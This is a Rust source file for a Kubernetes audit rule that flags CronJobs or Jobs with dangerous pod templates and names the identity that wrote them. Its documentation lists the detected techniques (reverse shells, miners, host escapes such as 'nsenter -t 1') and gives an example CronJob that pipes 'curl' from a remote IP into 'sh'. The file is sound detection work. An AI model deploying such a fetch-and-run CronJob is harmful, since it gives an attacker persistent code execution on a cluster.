//! JW-AUD-0002: a CronJob or Job whose pod template is dangerous, attributed to its writer.

use super::{Hit, Rule, RuleMeta, Status, detail};
use crate::analysis::{Analysis, OwnerClaim};
use crate::config::Config;
use crate::identity::ActorClass;
use jobwarden_model::{Outcome, Severity};

/// See [`META`].
pub struct RiskyJobTemplate;

/// Identity and documentation.
pub static META: RuleMeta = RuleMeta {
    id: "JW-AUD-0002",
    slug: "risky-job-template",
    title: "CronJob or Job with a dangerous pod template",
    max_severity: Severity::Critical,
    attack: &["T1053.007", "T1610", "T1611"],
    status: Status::Preview,
    since: "0.1.0",
    docs: "## What it detects
A create, update or patch of a CronJob or Job whose pod template the policy core judges
`medium` or worse: privileged containers, host namespaces, sensitive hostPath mounts, added
capabilities, download-and-execute or base64-into-shell commands, reverse shells, miners, host
escapes (`nsenter -t 1`, `chroot /host`), writes to node cron paths, untrusted registries. The
alert names the identity that wrote the template, at the moment it was written.

## Why it matters
Public rules judge Pods, so a malicious CronJob is only seen when the job-controller creates its
Pod, minutes or hours later, and the alert blames `job-controller`. Judging the template inside
the CronJob or Job catches the persistence at the door and names the real actor.

## Example
A CronJob with `command: [sh, -c, 'curl -s http://203.0.113.7/x | sh']` every minute gives a
`high` alert. Benign look-alike: a backup CronJob running `pg_dump | gzip > /backup/db.gz`.

## False positives
Writes by configured trusted automation are lowered one step. Security and node tools that need host access (kube-bench, node collectors) run privileged or
hostPID Jobs; trust their deploying identity in the config or override the severity. Jobs the
cronjob-controller creates from a CronJob already judged are not reported again; a CronJob whose
creation predates the log is reported once, at one step lower, when its first Job is seen.

## Response
Suspend the CronJob (`kubectl patch cronjob NAME -p '{\"spec\":{\"suspend\":true}}'`), keep the
object for analysis, find the writer's other actions, and check the nodes its pods ran on.",
};

impl Rule for RiskyJobTemplate {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, a: &Analysis<'_>, _config: &Config) -> Option<Hit> {
        if !a.action.is_write() {
            return None;
        }
        let risky: Vec<_> = a
            .findings
            .iter()
            .filter(|f| f.check.starts_with("template.") && f.severity >= Severity::Medium)
            .collect();
        let worst = risky.first()?;
        let mut severity = worst.severity;
        let mut dedupe_key = None;
        let mut summary_prefix = String::new();
        if let ActorClass::Controller(_) = a.identity.class {
            // A controller copying a template it was given: the risk belongs to the CronJob's
            // writer. Report only when that write predates the log, once per CronJob.
            match &a.owner {
                OwnerClaim::Verified { .. } => return None,
                OwnerClaim::Unknown { name } | OwnerClaim::UidMismatch { name, .. } => {
                    severity = severity.lowered();
                    dedupe_key = Some(format!("{}/{}", a.namespace.as_deref().unwrap_or(""), name));
                    summary_prefix = format!("CronJob {name} (written before this log) runs: ");
                }
                OwnerClaim::None => {}
            }
        }
        if let ActorClass::TrustedAutomation(_) = a.identity.class {
            severity = severity.lowered();
        }
        match a.outcome {
            Outcome::Allowed => {}
            // Refused by RBAC: JW-AUD-0010 reports the attempt.
            Outcome::Denied => return None,
            // Rejected by admission or failed: an attempt, not persistence.
            Outcome::Failed | Outcome::Unknown => severity = severity.lowered(),
        }
        let reasons: Vec<String> = risky.iter().take(4).map(|f| f.message.clone()).collect();
        Some(Hit {
            severity,
            summary: format!(
                "{summary_prefix}{} by {}: {}",
                a.object_label(),
                a.identity.class.label(),
                reasons.join("; ")
            ),
            detail: vec![
                detail(
                    "findings",
                    risky
                        .iter()
                        .map(|f| {
                            serde_json::json!({"check": f.check, "severity": f.severity, "path": f.path, "message": f.message})
                        })
                        .collect::<Vec<_>>(),
                ),
                detail(
                    "images",
                    a.facts
                        .as_ref()
                        .map(|f| f.images().into_iter().map(String::from).collect::<Vec<_>>())
                        .unwrap_or_default(),
                ),
                detail(
                    "commands",
                    a.facts.as_ref().map(|f| f.command_lines()).unwrap_or_default(),
                ),
            ],
            remediation: Some(
                "Suspend or delete the object, preserve it for analysis, and review every action of its writer."
                    .into(),
            ),
            dedupe_key,
        })
    }
}
